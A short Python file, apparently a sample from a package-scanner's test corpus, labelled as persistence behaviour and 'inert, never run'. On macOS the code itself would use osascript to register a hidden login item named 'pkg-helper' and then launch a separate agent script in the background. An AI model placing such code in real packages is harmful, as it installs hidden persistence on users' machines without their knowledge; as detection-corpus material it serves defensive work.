# pkgguard corpus 322 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import subprocess
import sys

agent = os.path.join(os.path.dirname(os.path.abspath(__file__)), "agent.py")
script = (
    'tell application "System Events" to make login item at end with properties '
    f'{{path:"{sys.executable}", name:"pkg-helper", hidden:true}}'
)
if sys.platform == "darwin":
    subprocess.run(["osascript", "-e", script], capture_output=True)
    subprocess.Popen([sys.executable, agent])
